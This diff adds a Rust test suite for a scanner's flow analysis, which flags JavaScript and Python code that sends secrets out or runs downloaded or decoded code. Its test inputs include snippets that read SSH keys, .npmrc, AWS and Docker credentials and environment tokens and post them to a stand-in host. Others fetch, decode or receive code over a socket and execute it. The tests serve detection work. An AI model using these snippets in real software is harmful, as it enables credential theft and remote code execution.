@@ -1,0 +1,249 @@
+use super::*;
+use crate::segment::segment_file;
+use skill_scan_model::Language;
+
+/// `(kind, sink text, source text, via text)` of every flow in a one-file module.
+fn flows_of(
+    path: &str,
+    language: Language,
+    text: &str,
+) -> Vec<(FlowKind, String, String, Option<String>)> {
+    let segments = segment_file(text, language, path);
+    let mut out = Vec::new();
+    for segment in &segments {
+        if segment.grammar.is_none() {
+            continue;
+        }
+        let base = segment.start;
+        for flow in &flows(segment, text).flows {
+            let sink = &text[base + flow.sink.0..base + flow.sink.1];
+            let source_line = text[base + flow.source_at..].lines().next().unwrap_or("");
+            let via = flow
+                .via
+                .as_ref()
+                .map(|(at, _)| text[base + at..].lines().next().unwrap_or("").to_string());
+            out.push((
+                flow.kind,
+                sink.lines().next().unwrap_or("").to_string(),
+                source_line.to_string(),
+                via,
+            ));
+        }
+    }
+    out
+}
+
+fn js(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
+    flows_of("index.js", Language::Javascript, text)
+}
+
+fn py(text: &str) -> Vec<(FlowKind, String, String, Option<String>)> {
+    flows_of("mod.py", Language::Python, text)
+}
+
+#[test]
+fn secret_through_variables_and_a_wrapper_reaches_the_sink() {
+    let text = "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\nfunction send(body) {\n  const req = https.request({ host: 'x.example.invalid' });\n  req.write(body);\n}\nconst p = `${os.homedir()}/.npmrc`;\nconst npmrc = fs.readFileSync(p, 'utf8');\nconst payload = JSON.stringify({ npmrc });\nsend(payload);\n";
+    let found = js(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    let (kind, sink, source, via) = &found[0];
+    assert_eq!(*kind, FlowKind::CredentialToNetwork);
+    assert_eq!(sink, "req.write(body)");
+    assert!(source.starts_with("fs.readFileSync(p"), "{source}");
+    assert_eq!(via.as_deref(), Some("send(payload);"));
+}
+
+#[test]
+fn hits_carry_a_message_and_the_source_as_related() {
+    let text = "import requests\nfrom pathlib import Path\nkey = (Path.home() / '.ssh' / 'id_rsa').read_text()\nrequests.post('https://x.example.invalid', data={'k': f'key={key}'})\n";
+    let segments = segment_file(text, Language::Python, "a.py");
+    let mut hits = Vec::new();
+    (CREDENTIAL_TO_NETWORK.run)(&segments[0], text, &mut |hit| {
+        hits.push(hit);
+        true
+    });
+    assert_eq!(hits.len(), 1);
+    let detail = hits[0].detail.as_ref().unwrap();
+    assert!(
+        detail.message.contains("requests.post"),
+        "{}",
+        detail.message
+    );
+    assert!(detail.message.contains(".ssh"), "{}", detail.message);
+    let (at, note) = &detail.related[0];
+    assert!(
+        text[*at..].starts_with("(Path.home()") || text[*at..].starts_with("Path.home()"),
+        "{}",
+        &text[*at..]
+    );
+    assert!(note.starts_with("secret read here"), "{note}");
+}
+
+#[test]
+fn env_dump_and_harvested_tokens_reach_the_network_but_one_own_key_does_not() {
+    let dump = py("import os, json, requests\npayload = json.dumps({'e': os.environ.copy()})\nrequests.post('https://x.example.invalid', data=payload)\n");
+    assert_eq!(dump.len(), 1);
+    assert_eq!(dump[0].0, FlowKind::EnvironmentToNetwork);
+    let harvest = js("const t = [process.env.NPM_TOKEN, process.env.GITHUB_TOKEN];\nt.push(process.env.AWS_SECRET_ACCESS_KEY);\nfetch('https://x.example.invalid', { method: 'POST', body: t.join(',') });\n");
+    assert_eq!(harvest.len(), 1, "{harvest:?}");
+    let own = js("const { STRIPE_API_KEY } = process.env;\nfetch('https://api.stripe.com/v1/charges', { headers: { Authorization: `Bearer ${STRIPE_API_KEY}` } });\n");
+    assert!(own.is_empty(), "{own:?}");
+}
+
+#[test]
+fn downloads_reaching_exec_through_promises_and_files() {
+    let promise = js("fetch('https://x.example.invalid/p.js').then((r) => r.text()).then((code) => eval(code));\n");
+    assert_eq!(promise.len(), 1, "{promise:?}");
+    assert_eq!(promise[0].0, FlowKind::DownloadToExec);
+    let dropped = js("const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst dest = '/tmp/x';\nhttps.get('https://x.example.invalid/bin', (res) => {\n  const file = fs.createWriteStream(dest);\n  res.pipe(file);\n  file.on('finish', () => spawn(dest, [], { detached: true }));\n});\n");
+    assert_eq!(dropped.len(), 1, "{dropped:?}");
+    assert!(dropped[0].1.starts_with("spawn(dest"));
+    let retrieved = py("import os, urllib.request as u\nu.urlretrieve('https://x.example.invalid/a', '/tmp/a')\np = '/tmp/a'\nurl = 'https://x.example.invalid/b'\nu.urlretrieve(url, p)\nos.system(p)\n");
+    assert_eq!(retrieved.len(), 1, "{retrieved:?}");
+}
+
+#[test]
+fn parsed_json_and_hashed_downloads_are_not_code() {
+    assert!(py("import requests, subprocess\ncfg = requests.get('https://x.example.invalid/c').json()\nsubprocess.run(['git', 'clone', cfg['repo']])\n").is_empty());
+    let hashed = js("const crypto = require('crypto');\nconst fs = require('fs');\nasync function f(dest) {\n  const data = await (await fetch('https://x.example.invalid/b')).arrayBuffer();\n  const h = crypto.createHash('sha256').update(Buffer.from(data)).digest('hex');\n  fs.writeFileSync(dest, Buffer.from(data));\n  fs.chmodSync(dest, 0o755);\n}\n");
+    assert!(hashed.is_empty(), "{hashed:?}");
+}
+
+#[test]
+fn decoded_data_reaching_exec_through_a_helper() {
+    let found = py("import base64, zlib\ndef run(src):\n    exec(compile(src, '<x>', 'exec'))\nblob = 'eJzLSM3JyVcozy/KSQEAGgQEXQ=='\nrun(zlib.decompress(base64.b64decode(blob)))\n");
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].0, FlowKind::DecodedToExec);
+    assert_eq!(
+        found[0].3.as_deref(),
+        Some("run(zlib.decompress(base64.b64decode(blob)))")
+    );
+    let rot = py("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n");
+    assert_eq!(rot.len(), 1);
+    let char_codes =
+        js("const s = String.fromCharCode(97, 108, 101, 114, 116);\nnew Function(s)();\n");
+    assert_eq!(char_codes.len(), 1, "{char_codes:?}");
+}
+
+#[test]
+fn names_that_merely_look_like_sinks_are_not_sinks() {
+    // A regex's exec, a method named eval, a local function called fetch.
+    let text = "const fs = require('fs');\nconst data = fs.readFileSync('.env', 'utf8');\n/^x/.exec(data);\nparser.eval(data);\nfunction fetch(x) { return x.length; }\nfetch(data);\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn variables_in_different_functions_do_not_mix() {
+    let text = "const fs = require('fs');\nfunction a() { const data = fs.readFileSync('/home/u/.ssh/id_rsa'); return data.length; }\nfunction b() { const data = JSON.stringify({ ok: 1 }); fetch('https://x.example.invalid', { method: 'POST', body: data }); }\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn oversized_segments_are_skipped_with_a_note() {
+    let text = format!("var a = 1;{}", " ".repeat(MAX_SEGMENT_BYTES));
+    let segments = segment_file(&text, Language::Javascript, "big.js");
+    let result = flows(&segments[0], &text);
+    assert!(result.flows.is_empty());
+    assert!(result
+        .note
+        .as_deref()
+        .unwrap_or("")
+        .contains("flow analysis"));
+    assert_eq!(segments[0].notes().count(), 1);
+}
+
+#[test]
+fn a_helper_that_reads_the_file_it_is_given_reads_a_secret_when_given_a_credential_path() {
+    let text = "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfunction readConfig(name) {\n  try { return fs.readFileSync(path.join(os.homedir(), name), 'utf8'); } catch (_) { return ''; }\n}\nconst cfg = readConfig('.npmrc');\nconst other = readConfig('.myapprc');\nfetch('https://x.example.invalid', { method: 'POST', body: JSON.stringify({ other }) });\nfetch('https://x.example.invalid', { method: 'POST', body: cfg });\n";
+    let found = js(text);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].2, "readConfig('.npmrc');");
+}
+
+#[test]
+fn a_request_to_the_host_named_in_the_credential_file_is_its_own_service() {
+    let own = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst base = text.split('=')[1];\nfetch(`${base}/left-pad`);\nfetch(base + '/-/whoami', { headers: { authorization: text } });\n");
+    assert!(own.is_empty(), "{own:?}");
+    let stolen = js("const fs = require('fs');\nconst text = fs.readFileSync('/home/u/.npmrc', 'utf8');\nfetch(`https://x.example.invalid/?t=${text}`);\nconst u = 'https://x.example.invalid/?t=' + text;\nfetch(u);\n");
+    assert_eq!(stolen.len(), 2, "{stolen:?}");
+}
+
+#[test]
+fn a_downloaded_name_in_a_path_is_not_downloaded_code() {
+    // chromedriver's installer: the version string fetched from a JSON index names the folder of the
+    // binary it then runs with --version.
+    let text = "const axios = require('axios');\nconst path = require('path');\nconst { spawn } = require('child_process');\nasync function install(dir) {\n  const response = await axios.request({ url: 'https://x.example.invalid/versions.json' });\n  const version = response.data.version;\n  const bin = path.resolve(dir, version, 'chromedriver');\n  spawn(bin, ['--version']);\n}\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
+
+#[test]
+fn data_fed_to_a_process_is_not_the_process() {
+    assert!(js("const { execa } = require('execa');\nasync function f() { const response = await fetch('https://x.example.invalid'); await execa('sort', [], { stdin: response.body }); }\n").is_empty());
+    assert!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').content\nsubprocess.run(['sort'], input=data)\n").is_empty());
+    assert_eq!(py("import subprocess, requests\ndata = requests.get('https://x.example.invalid').text\nsubprocess.run(args=['sh', '-c', data])\n").len(), 1);
+}
+
+#[test]
+fn minified_functions_sharing_a_name_are_told_apart_by_scope() {
+    // Two unrelated functions both called `a`: one sends its argument, the other only logs it.
+    let text = "function x(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}return a}\nfunction y(){function a(b){console.log(b)}a(JSON.stringify(process.env))}\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+    let same_scope = "function y(){function a(b){fetch('https://x.example.invalid',{method:'POST',body:b})}a(JSON.stringify(process.env))}\n";
+    assert_eq!(js(same_scope).len(), 1);
+}
+
+#[test]
+fn data_written_to_a_request_is_not_its_destination() {
+    let text = "const fs = require('fs');\nconst http = require('http');\nconst body = fs.readFileSync('/home/u/.npmrc', 'utf8');\nconst req = http.request({ host: '198.51.100.7', method: 'POST' });\nreq.end(body);\n";
+    assert_eq!(js(text).len(), 1, "{:?}", js(text));
+}
+
+#[test]
+fn python_handles_on_credential_files_are_their_contents() {
+    let upload = py("import requests, os\nrequests.post('https://x.example.invalid/u', files={'f': open(os.path.expanduser('~/.aws/credentials'), 'rb')})\n");
+    assert_eq!(upload.len(), 1, "{upload:?}");
+    let loaded = py("import json, requests\nwith open('/home/u/.docker/config.json') as f:\n    auths = json.load(f)['auths']\nrequests.post('https://x.example.invalid/d', json=auths)\n");
+    assert_eq!(loaded.len(), 1, "{loaded:?}");
+    let config =
+        py("import json\nwith open('settings.json') as f:\n    cfg = json.load(f)\nprint(cfg)\n");
+    assert!(config.is_empty());
+}
+
+#[test]
+fn one_chr_and_eval_namespaces_are_not_hidden_code() {
+    // numpy.f2py: a parameter value turned into a character, then the dict used as eval's namespace.
+    let text = "def get(vars, params, n, expr):\n    params[n] = chr(params[n])\n    return eval(expr, {}, params)\n";
+    assert!(py(text).is_empty(), "{:?}", py(text));
+    let hidden = py("cmd = ''.join(chr(c) for c in [105, 100, 59, 32])\nexec(cmd)\n");
+    assert_eq!(hidden.len(), 1, "{hidden:?}");
+    let literal = py("import os\nos.system(chr(105) + chr(100))\n");
+    assert_eq!(literal.len(), 1, "{literal:?}");
+}
+
+#[test]
+fn a_socket_is_not_downloaded_data_but_what_it_receives_is() {
+    // fastmcp's test harness: a port number from a bound socket names the server to start.
+    let port = py("import socket, subprocess\nwith socket.socket() as sock:\n    sock.bind(('127.0.0.1', 0))\n    port = sock.getsockname()[1]\nsubprocess.Popen(['python', 'server.py', str(port)])\n");
+    assert!(port.is_empty(), "{port:?}");
+    let received = py("import socket\ns = socket.create_connection(('x.example.invalid', 4444))\ncode = s.recv(4096)\nexec(code)\n");
+    assert_eq!(received.len(), 1, "{received:?}");
+    let js_response = js("const https = require('https');\nconst req = https.request({ host: 'x.example.invalid' });\nreq.on('response', (res) => { let b = ''; res.on('data', (d) => { b += d; }); res.on('end', () => eval(b)); });\nreq.end();\n");
+    assert_eq!(js_response.len(), 1, "{js_response:?}");
+}
+
+#[test]
+fn decoding_runtime_input_is_serialisation_not_hiding() {
+    // PyInstaller's isolated child: code objects arrive base64-encoded over a pipe from the parent.
+    let pipe = py("import marshal, types\nfrom base64 import b64decode\ndef run(read_fh):\n    code = marshal.loads(b64decode(read_fh.readline().strip()))\n    function = types.FunctionType(code, {})\n    return function()\n");
+    assert!(pipe.is_empty(), "{pipe:?}");
+    let embedded = py("import marshal, types\nfrom base64 import b64decode\nBLOB = 'YwAAAAAAAAAAAAAAAAAAAAAAAAA='\ncode = marshal.loads(b64decode(BLOB))\nexec(code)\n");
+    assert_eq!(embedded.len(), 1, "{embedded:?}");
+    let wrapper = js("function d(s) { return atob(s); }\neval(d('Y29uc29sZS5sb2coMSk='));\n");
+    assert_eq!(wrapper.len(), 1, "{wrapper:?}");
+}
+
+#[test]
+fn a_timer_given_a_function_name_runs_the_function() {
+    let text = "const dns = require('dns');\nfunction sendKA() { sock.write('ka'); }\ndns.lookup(host, (err, address) => { connect(address); setInterval(sendKA, 1000); });\n";
+    assert!(js(text).is_empty(), "{:?}", js(text));
+}
